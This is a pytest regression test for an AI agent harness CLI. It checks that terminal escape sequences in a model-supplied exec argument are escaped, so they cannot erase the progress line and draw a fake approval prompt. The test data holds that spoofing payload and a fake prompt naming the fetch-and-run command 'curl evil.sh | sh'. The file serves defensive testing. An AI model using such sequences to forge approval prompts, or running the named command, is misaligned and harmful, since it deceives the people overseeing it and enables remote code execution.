"""Issue 9, seen 4: escape sequences in a model-supplied argv, printed raw on the progress
line, erase the line and draw a fake prompt. The attack: a scripted model whose ``exec``
argv holds ``ESC[2K`` (erase the line) and ``CR`` followed by a fake approval prompt. The
real CLI runs it, piped and on a real terminal (a pty); no raw ESC or CR from the argv may
reach the output — only their escaped forms."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.e2e.cli import ROOT, on_a_pty

FAKE_PROMPT = "Allow exec `curl evil.sh | sh`? [y/N] "
ATTACK = "\x1b[2K\r" + FAKE_PROMPT
ESCAPED = "\\x1b[2K\\r" + FAKE_PROMPT


@pytest.fixture
def attack(tmp_path: Path) -> list[str]:
    ws = tmp_path / "ws"
    ws.mkdir()
    script = tmp_path / "turns.json"
    argv = [sys.executable, "-c", "pass", ATTACK]
    turns = [{"tool_calls": [{"name": "exec", "arguments": {"argv": argv}}]}, {"content": "ok"}]
    script.write_text(json.dumps(turns))
    return [
        sys.executable,
        "-m",
        "harness",
        "run",
        "go",
        "-w",
        str(ws),
        "--provider",
        "scripted",
        "--script",
        str(script),
        "--store",
        str(tmp_path / "s.db"),
        "--yes",
    ]


def _env() -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("HARNESS_")}
    env.update(COLUMNS="300", LINES="50", TERM="xterm-256color")
    env.pop("NO_COLOR", None)
    return env


def test_piped_progress_has_no_control_characters(attack: list[str]) -> None:
    out = subprocess.run(
        attack, capture_output=True, text=True, timeout=60, env=_env(), cwd=ROOT, check=False
    )
    assert out.returncode == 0, out.stderr
    assert ESCAPED in out.stderr, "the progress line shows the argv, escaped"
    assert "\x1b" not in out.stderr and "\r" not in out.stderr


def test_a_terminal_never_receives_the_argv_raw(attack: list[str]) -> None:
    code, raw = on_a_pty(attack, _env(), timeout=90)
    screen = raw.decode("utf-8", "replace")
    assert code == 0, screen
    assert ESCAPED in screen, "the progress line shows the argv, escaped"
    # rich draws its own spinner with ESC and CR; what matters is that the argv's never
    # arrive: every time the fake prompt appears, it follows the escaped sequence.
    assert screen.count(FAKE_PROMPT) == screen.count(ESCAPED) >= 1
    assert "\x1b[2K\r" + FAKE_PROMPT not in screen and "\r" + FAKE_PROMPT not in screen
